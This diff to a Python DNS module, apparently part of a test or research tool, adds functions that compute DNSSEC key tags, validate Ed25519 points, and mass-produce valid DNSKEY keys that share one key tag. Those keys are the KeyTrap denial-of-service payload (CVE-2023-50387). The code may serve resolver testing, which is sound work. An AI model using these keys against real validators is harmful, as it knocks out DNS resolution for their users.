@@ -221,3 +221,56 @@ def canon_rdata(rtype, text):
     if rtype in ("CNAME", "NS"):
         return parts[0].lower()
     return text.strip()
+
+
+# ---------------------------------------------------------------- KeyTrap-style keys
+
+def key_tag(rdata):
+    """RFC 4034 Appendix B key tag of DNSKEY RDATA (flags, protocol, algorithm, key)."""
+    ac = 0
+    for i, b in enumerate(rdata):
+        ac += b if i & 1 else b << 8
+    ac += (ac >> 16) & 0xFFFF
+    return ac & 0xFFFF
+
+
+_ED_P = 2 ** 255 - 19
+_ED_D = (-121665 * pow(121666, _ED_P - 2, _ED_P)) % _ED_P
+
+
+def ed25519_point_ok(key):
+    """True when 32 bytes decode to a point of Ed25519 (RFC 8032 §5.1.3), so a verifier
+    cannot reject the key without doing the arithmetic."""
+    y = int.from_bytes(key, "little") & ((1 << 255) - 1)
+    sign = key[31] >> 7
+    if y >= _ED_P:
+        return False
+    u, v = (y * y - 1) % _ED_P, (_ED_D * y * y + 1) % _ED_P
+    x2 = u * pow(v, _ED_P - 2, _ED_P) % _ED_P
+    x = pow(x2, (_ED_P + 3) // 8, _ED_P)
+    if (x * x - x2) % _ED_P:
+        x = x * pow(2, (_ED_P - 1) // 4, _ED_P) % _ED_P
+    if (x * x - x2) % _ED_P:
+        return False
+    return not (x == 0 and sign)
+
+
+def colliding_ed25519_keys(count, tag, flags, rng):
+    """`count` distinct Ed25519 public keys (valid curve points, no private key anyone knows)
+    whose DNSKEY (flags, protocol 3, algorithm 15) has key tag `tag`: the KeyTrap pattern
+    (CVE-2023-50387), where a validator must try every key with the RRSIG's tag.
+    The last two key octets are solved for the tag (the tag is a folded 16-bit sum)."""
+    head = struct.pack("!HBB", flags, 3, 15)
+    keys = []
+    while len(keys) < count:
+        prefix = bytes(rng.getrandbits(8) for _ in range(30))
+        rest = sum(x if i & 1 else x << 8 for i, x in enumerate(head + prefix))
+        for word in range(65536):
+            ac = rest + word
+            if (ac + ((ac >> 16) & 0xFFFF)) & 0xFFFF != tag:
+                continue
+            key = prefix + struct.pack("!H", word)
+            if key_tag(head + key) == tag and ed25519_point_ok(key) and key not in keys:
+                keys.append(key)
+            break
+    return keys
